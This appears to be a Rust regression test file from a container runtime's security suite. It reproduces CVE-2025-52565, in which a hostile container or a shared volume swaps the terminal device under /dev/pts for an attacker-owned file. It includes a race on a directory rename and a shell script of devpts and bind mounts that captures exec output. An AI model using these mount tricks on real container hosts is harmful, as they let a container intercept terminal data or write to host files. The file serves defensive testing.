//! The terminal is a file of the attacker (CVE-2025-52565).

use crate::attack::{self, Attack};
use crate::harness::{Test, cases, wait_until};

cases! {
    terminal_of_run_swapped,
    terminal_of_exec_replaced,
}

/// Whoever shares the directory above /dev/pts puts a file where the terminal's other end was.
fn terminal_of_run_swapped(test: &Test) {
    attack::make(
        test,
        &Attack {
            weak: "console-by-path",
            slow: "slow-console",
            body: |test| {
                let volume = test.subdir("terminals");
                for dir in ["pts", "old"] {
                    // Absent on the first run, and a mount point of nobody any more.
                    std::fs::remove_dir_all(volume.join(dir)).ok();
                }
                let mut bundle = test
                    .sh("test -t 0 && test -c /dev/console; echo code=$?")
                    .set("/process/terminal", true);
                for mount in ["/dev/pts", "/dev/shm", "/dev/mqueue", "/dev"] {
                    bundle = bundle.unmount(mount);
                }
                let bundle = bundle.bind(&volume, "/dev", &["rbind"]).mount(
                    "/dev/pts",
                    "devpts",
                    "devpts",
                    &["newinstance", "ptmxmode=0666"],
                );
                let running = bundle.run_in_background();
                // Made by the runtime, just before the terminal: the rest happens while it pauses, where it does.
                if !wait_until(|| volume.join("pts").exists()) {
                    panic!("no terminals: {:?}", running.wait());
                }
                std::thread::sleep(std::time::Duration::from_millis(100));
                std::fs::rename(volume.join("pts"), volume.join("old")).expect("own directory");
                test.file("terminals/pts/0", "attacker");
                let output = running.wait();
                let file = std::fs::read_to_string(volume.join("pts/0")).expect("own file");
                let won = output.stdout.contains("code=1") || file != "attacker";
                clear(&volume);
                won
            },
        },
    );
}

/// Devices of one build would be in the way of the next.
fn clear(volume: &std::path::Path) {
    for entry in std::fs::read_dir(volume).expect("own directory").flatten() {
        if !entry.path().is_dir() {
            std::fs::remove_file(entry.path()).expect("own directory");
        }
    }
}

/// A hostile container hides its /dev/pts before somebody asks for a terminal in it.
fn terminal_of_exec_replaced(test: &Test) {
    attack::make(
        test,
        &Attack {
            weak: "console-by-path",
            slow: "",
            body: |test| {
                // ptmx leads to a real one, 0 to a file of the attacker.
                let script = "mkdir /tmp/pts; mount -t devpts -o newinstance,ptmxmode=0666 d /tmp/pts; \
                    mkdir /tmp/evil; touch /tmp/evil/0 /tmp/evil/ptmx; \
                    mount --bind /tmp/pts/ptmx /tmp/evil/ptmx; mount --bind /tmp/evil /dev/pts; \
                    mount --bind /tmp/pts/ptmx /dev/pts/ptmx; echo ready; exec sleep 1000";
                let container = test.sh(script).capabilities(&["CAP_SYS_ADMIN"]).started();
                assert!(attack::says(&container, "ready"), "{}", container.stderr());
                let output = container.exec(&["--tty"], &["sh", "-c", "echo secret; tty"]);
                let file = container.exec(&[], &["cat", "/tmp/evil/0"]).ok();
                drop(output);
                file.stdout.contains("secret")
            },
        },
    );
}
